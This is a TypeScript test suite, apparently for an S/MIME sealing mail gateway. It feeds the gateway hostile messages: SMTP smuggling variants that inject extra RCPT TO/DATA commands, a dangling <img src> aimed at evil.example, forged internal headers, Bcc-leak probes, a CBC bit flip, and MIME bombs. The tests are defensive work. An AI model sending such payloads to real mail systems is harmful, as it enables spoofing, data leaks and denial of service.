/** Attacks by what stands in a message, each through the whole path: what is queued, what goes out, what the reader sees. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { noOpenssl } from '../certificates/openssl.ts';
import { codeOf } from '../ingress/front.ts';
import { variants } from '../ingress/smuggling.ts';
import { cmsOf } from '../interop/readers.ts';
import { assertWireForm, outerFields } from '../interop/wire.ts';
import { makeWalk, seal } from './walk.ts';

const ANNA = 'anna@clinic.example';
const BARE = /\r(?!\n)|(?<!\r)\n/;
const header = 'From: forms@clinic.example\r\nTo: anna@clinic.example\r\nSubject: form\r\n';
const refusal = (error: unknown): string => codeOf(error) ?? assert.fail(String(error));

describe('a whole message through the path', { skip: noOpenssl }, () => {
  const walk = makeWalk();

  test('A1 A2: every end of data is text in one message: CRLF alone inside and outside, and NUL is refused', async () => {
    let opened = 0;
    for (const { name, body, nul } of variants('victim@y.example')) {
      const walked = await walk(body).catch(refusal);
      if (typeof walked === 'string') {
        assert.ok(nul, name);
        assert.match(walked, /nul/, name);
        continue;
      }
      assert.ok(!nul, name);
      opened++;
      const inside = (await walked.open(ANNA)).toString('latin1');
      assert.doesNotMatch(inside, BARE, name);
      assert.ok(inside.includes('RCPT TO:<victim@y.example>\r\nDATA\r\nSubject: smuggled\r\n'), name);
      const outside = (await walked.wire(ANNA)).toString('latin1');
      assert.doesNotMatch(outside, BARE, name);
      assert.doesNotMatch(outside, /^\./m, name);
      assert.ok(!outside.includes('smuggled'), name);
    }
    assert.ok(opened > 100, String(opened));
  });

  test('A2: of every end of data a rule passes in clear only what CRLF ends and nothing but CRLF', async () => {
    const passing = makeWalk([{ ...seal, name: 'news', then: 'pass' }]);
    let passed = 0;
    for (const { name, body, proper } of variants('victim@y.example')) {
      const octets = Buffer.concat([Buffer.from(header), body]);
      const walked = await passing(octets).catch(refusal);
      assert.equal(typeof walked !== 'string', proper, `${name}: ${typeof walked === 'string' ? walked : 'passed'}`);
      if (typeof walked === 'string') continue;
      passed++;
      assert.doesNotMatch((await walked.wire(ANNA)).toString('latin1'), BARE, name);
    }
    assert.ok(passed > 0);
  });

  test('A14: whatever comes in, what leaves is one sealed entity at the top, with nothing around it', async () => {
    const sealed = (await walk(`${header}\r\nsecret\r\n`)).wire(ANNA);
    const part = (await sealed).toString('latin1');
    const bodies: Readonly<Record<string, string>> = {
      'a sealed part in a multipart': `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n<img src="http://evil.example/\r\n--b\r\n${part}\r\n--b\r\n\r\n">\r\n--b--\r\n`,
      'a sealed message in a message': `Content-Type: message/rfc822\r\n\r\n${part}`,
      'text in front of the seal and behind it': `Content-Type: text/html\r\n\r\n<img src="\r\n${part}\r\n">\r\n`,
      'two types': `Content-Type: multipart/mixed; boundary=b\r\nContent-Type: application/pkcs7-mime\r\n\r\n--b\r\n\r\n${part}`,
      'two encodings': `Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n${part}`,
    };
    for (const [what, body] of Object.entries(bodies)) {
      const out = await (await walk(header + body)).wire(ANNA);
      assertWireForm(out, 'enveloped-data');
      const types = outerFields(out).filter(([name]) => name === 'content-type');
      assert.equal(types.length, 1, what);
      assert.match(types[0]?.[1] ?? '', /^application\/pkcs7-mime/, what);
      // Base64 and nothing else to the last octet, and one structure in it that ends where it says.
      const der = cmsOf(out);
      assert.equal(der.readUInt8(0), 0x30, what);
      const octets = der.readUInt8(1) & 0x7f;
      assert.equal(der.length, 2 + octets + der.readUIntBE(2, octets), what);
    }
  });

  test('A14: a bit of CBC that is flipped is not noticed by the seal, and changes its block: what SECURITY.md says', async () => {
    const walked = await walk(`${header}\r\n${'sixteen octets..'.repeat(8)}\r\n`);
    const out = await walked.wire(ANNA);
    const before = await walked.open(ANNA);
    const end = out.indexOf('\r\n\r\n') + 4;
    const der = cmsOf(out);
    // Three blocks before the last one: the padding stays whole.
    der.writeUInt8(der.readUInt8(der.length - 50) ^ 1, der.length - 50);
    const base64 = der.toString('base64').replaceAll(/.{1,76}/g, '$&\r\n');
    const after = await walked.open(ANNA, Buffer.concat([out.subarray(0, end), Buffer.from(base64)]));
    assert.equal(after.length, before.length);
    assert.notDeepEqual(after, before);
  });

  test('A16 P8: To, Cc and a blind copy: nothing that reaches the two names the third, outside, inside or by a certificate', async () => {
    const [otto, hidden] = ['otto@clinic.example', 'hidden@clinic.example'];
    const text = [
      'Received: from w by x with SMTP id 1',
      '\tfor <hidden@clinic.example>; Mon, 1 Jan 2024 00:00:00 +0000',
      'From: forms@clinic.example',
      `To: ${ANNA}`,
      `Cc: ${otto}`,
      `Bcc: ${hidden}`,
      `Resent-Bcc: ${hidden}`,
      `X-Envelope-To: ${hidden}`,
      'Subject: x',
      '',
      'body',
      '',
    ].join('\r\n');
    const walked = await walk(text, [ANNA, otto, hidden]);
    const serial = walk.certificateOf(hidden).serialDer;
    for (const reader of [ANNA, otto]) {
      const out = await walked.wire(reader);
      const inside = await walked.open(reader);
      for (const [what, octets] of Object.entries({ out, inside })) assert.ok(!octets.includes('hidden'), `${what} of ${reader}`);
      assert.ok(!cmsOf(out).includes(serial), reader);
      assert.ok(cmsOf(out).includes(walk.certificateOf(reader).serialDer), reader);
      for (const shown of [`To: ${ANNA}`, `Cc: ${otto}`]) assert.ok(out.includes(shown), shown);
    }
    assert.ok((await walked.open(hidden)).includes('body'));
    assert.ok(!(await walked.wire(hidden)).includes('hidden'));
  });

  test('A11: fields that are ours are taken out of what comes in, outside and inside, whatever their case', async () => {
    const forged = ['X-Sealpost-Rule: pass', 'x-sealpost-id: forged', 'X-SEALPOST-Mode: clear'].join('\r\n');
    const walked = await walk(`${header}${forged}\r\n\r\nbody\r\n`);
    for (const octets of [await walked.wire(ANNA), await walked.open(ANNA)])
      assert.doesNotMatch(octets.toString('latin1'), /x-sealpost-|forged/i);
    assert.deepEqual(
      walked.events.filter(({ event }) => event === 'sealed').map((event) => 'rule' in event && event['rule']),
      ['everything'],
    );
  });

  /** CPU in ms of the shortest of three walks. */
  const costOf = async (text: string): Promise<number> => {
    let shortest = Infinity;
    for (let round = 0; round < 3; round++) {
      const begun = process.cpuUsage();
      await walk(text);
      const { user, system } = process.cpuUsage(begun);
      shortest = Math.min(shortest, (user + system) / 1000);
    }
    return shortest;
  };

  test('A31: ten thousand levels of MIME, or a million parts, cost what so much text costs', async () => {
    const nested = Array.from({ length: 10_000 }, (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`).join('');
    const split = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n'.repeat(1_000_000)}--b--\r\n`;
    for (const bomb of [nested, split]) {
      const plain = `\r\n${'x'.repeat(69)}\r\n`.repeat(Math.ceil(bomb.length / 73));
      const [cost, usual] = [await costOf(header + bomb), await costOf(`${header}\r\n${plain}`)];
      assert.ok(cost < 10 * usual + 200, `${cost} ms, and ${usual} ms for text of that size`);
    }
  });
});
